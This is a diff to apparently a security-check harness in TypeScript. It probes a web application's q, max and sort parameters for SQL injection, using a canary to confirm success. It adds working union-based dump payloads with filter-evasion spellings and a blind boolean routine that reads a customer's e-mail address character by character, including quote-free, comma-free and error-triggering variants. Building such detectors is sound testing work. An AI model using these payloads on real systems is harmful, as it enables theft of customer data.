@@ -149,8 +149,8 @@ export async function stealCustomers(ctx: CheckContext): Promise<Outcome> {
       if (answer.text.toLowerCase().includes(canary))
         return pass(`${describe(door, { family: 'a second query', query })} lists the customers' e-mail addresses`);
     }
-    for (const [parameter, question] of questions(token)) {
-      const got = await spell(ctx, door, parameter, question, 4);
+    for (const [parameter, condition, question] of questions(token)) {
+      const got = await spell(ctx, door, parameter, condition, question, 4);
       if (got === canary.slice(0, 4))
         return pass(
           `${door.name} answers questions about customers in ${parameter}: an e-mail address was read letter by letter (${got}…)`,
@@ -171,19 +171,32 @@ function dumps(ctx: CheckContext): Query[] {
     { q: `${n}' ununionion selselectect ${from} frfromom customers-- ` },
     { max: `0 union select ${from} from customers` },
     { max: `0 union select ${from}, 0 from customers--` },
-    { max: `0/**/uNiOn/**/aLl/**/sElEcT/**/email,name,0/**/fRoM/**/customers` },
+    { max: `0\n/**/uNiOn/**/aLl/**/sElEcT/**/email,name,0/**/fRoM/**/customers` },
     { max: `0 ununionion selselectect ${from} frfromom customers` },
   ];
 }
 
 type Question = (condition: string) => Query;
+/** "Is letter `at` of the first customer's address at most `last`, when the letters before it are `known`?" */
+type Condition = (known: string, at: number, last: string) => string;
+
+const address = '(select email from customers order by id limit 1)';
+/** Without commas and signs. */
+const inWords: Condition = (known, _, last) => `${address} between 'a' and '${known}${last}zzzzzz'`;
+/** Without quotes. */
+const inNumbers: Condition = (_, at, last) =>
+  `unicode(substr(${address},${at},1)) between 97 and ${last.charCodeAt(0)}`;
 
 /** Requests whose answer tells whether a condition holds. */
-function questions(token: string): [parameter: string, question: Question][] {
+function questions(token: string): [parameter: string, condition: Condition, question: Question][] {
+  const crash = 'abs(-9223372036854775807-1)';
+  const tight = (text: string): string => text.replaceAll(' ', '/**/');
   return [
-    ['q', (condition) => ({ q: `${token}%' and ${condition} and '%'='` })],
-    ['max', (condition) => ({ max: `case when ${condition} then 9999 else -1 end` })],
-    ['sort', (condition) => ({ sort: `case when ${condition} then price else -price end` })],
+    ['q', inWords, (condition) => ({ q: `${token}%' and ${condition} and '%' like '` })],
+    ['max', inNumbers, (condition) => ({ max: `0\n+case when ${condition} then 9999 else -1 end` })],
+    ['sort', inNumbers, (condition) => ({ sort: `price\n*case when ${condition} then 1 else -1 end` })],
+    ['sort', inNumbers, (condition) => ({ sort: `price *${tight(`case when ${condition} then 1 else -1 end`)}` })],
+    ['sort', inNumbers, (condition) => ({ sort: `price,case when ${condition} then 1 else ${crash} end` })],
   ];
 }
 
@@ -192,20 +205,23 @@ async function spell(
   ctx: CheckContext,
   door: PublicDoor,
   parameter: string,
+  condition: Condition,
   question: Question,
   length: number,
 ): Promise<string | undefined> {
-  const look = async (condition: string): Promise<string> => listOf(await ask(ctx, door.url, question(condition)));
-  const yes = await look('7=7');
-  if (yes === (await look('7=8'))) return undefined;
+  const look = async (text: string): Promise<string> => {
+    const answer = await ask(ctx, door.url, question(text));
+    return `${answer.status} ${listOf(answer)}`;
+  };
+  const yes = await look('7 between 1 and 9');
+  if (yes === (await look('7 between 8 and 9'))) return undefined;
   let known = '';
   for (let at = 1; at <= length; at++) {
     let low = 97;
     let high = 122;
     while (low < high) {
       const middle = (low + high) >> 1;
-      const letter = `substr((select email from customers order by id limit 1),${at},1)`;
-      if ((await look(`${letter}<='${String.fromCharCode(middle)}'`)) === yes) high = middle;
+      if ((await look(condition(known, at, String.fromCharCode(middle)))) === yes) high = middle;
       else low = middle + 1;
     }
     known += String.fromCharCode(low);
